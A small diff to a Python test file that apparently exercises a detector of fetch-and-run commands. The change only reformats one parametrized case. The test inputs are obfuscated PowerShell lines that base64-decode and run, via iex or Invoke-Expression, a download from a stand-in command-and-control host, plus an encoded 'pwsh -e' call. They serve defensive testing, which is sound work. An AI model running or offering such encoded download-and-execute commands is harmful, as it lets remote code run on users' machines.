@@ -44,8 +44,10 @@ def test_what_is_fetched_and_run(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
-        "aXdyIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQ=')))",
+        (
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
+            "aXdyIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQ=')))"
+        ),
         "$b = [Convert]::FromBase64String('aXdyIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQ=')\nInvoke-Expression $b",
         f"pwsh -e {ENCODED}",
     ],
